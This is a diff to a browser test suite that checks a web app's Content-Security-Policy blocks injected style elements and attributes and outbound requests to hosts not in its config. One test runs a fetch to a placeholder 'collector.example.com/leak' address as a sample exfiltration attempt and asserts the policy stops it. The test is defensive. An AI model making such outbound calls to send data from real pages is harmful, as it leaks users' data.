@@ -124,6 +124,7 @@ describe('the app under its Content-Security-Policy', () => {
     ]);
   });
   afterAll(async () => {
+    await probed?.context.close();
     await Promise.allSettled([browser?.close(), server?.stop(), fake?.stop()]);
   });
 
@@ -172,10 +173,24 @@ describe('the app under its Content-Security-Policy', () => {
     await opened.context.close();
   });
 
+  // The two probes below share one booted page (each reads only the reports made after it starts);
+  // the check above, that nothing is reported at all, has a page of its own.
+  let probed: PageUnderTest | undefined;
+  async function probePage(): Promise<PageUnderTest> {
+    if (!probed) {
+      probed = await openApp(browser, server.url);
+      await waitForChat(probed.page);
+    }
+    return probed;
+  }
+  /** The reports the page made after `from` of them. */
+  const violationsSince = async (opened: PageUnderTest, from: number) =>
+    (await violations(opened)).slice(from);
+
   it('blocks a style element without the nonce and a style attribute, and reports both', async () => {
-    const opened = await openApp(browser, server.url);
+    const opened = await probePage();
     const { page } = opened;
-    await waitForChat(page);
+    const from = (await violations(opened)).length;
     const applied = await page.evaluate(() => {
       const style = document.createElement('style');
       style.textContent = '#chat { --probe: injected; }';
@@ -191,20 +206,19 @@ describe('the app under its Content-Security-Policy', () => {
     expect(applied).toEqual(['', '']);
     // Each is reported twice: the meta tag's policy and the header's both enforce.
     await expect
-      .poll(() => violations(opened))
+      .poll(() => violationsSince(opened, from))
       .toEqual([
         'style-src-elem inline on <style>',
         'style-src-elem inline on <style>',
         'style-src-attr inline on <p>',
         'style-src-attr inline on <p>',
       ]);
-    await opened.context.close();
   });
 
   it('cannot reach a host the config does not name, and the settings say so', async () => {
-    const opened = await openApp(browser, server.url);
+    const opened = await probePage();
     const { page } = opened;
-    await waitForChat(page);
+    const from = (await violations(opened)).length;
     const outcome = await page.evaluate(() =>
       fetch('https://collector.example.com/leak').then(
         () => 'sent',
@@ -222,14 +236,13 @@ describe('the app under its Content-Security-Policy', () => {
     // Stopped by the policy inside the page: neither request reached the network.
     expect(opened.outsideRequests).toEqual([]);
     await expect
-      .poll(() => violations(opened))
+      .poll(() => violationsSince(opened, from))
       .toEqual(
         expect.arrayContaining([
           'connect-src https://collector.example.com/leak',
           expect.stringMatching(/^connect-src https:\/\/llm\.unlisted\.example\//),
         ]),
       );
-    await opened.context.close();
   });
 });
 
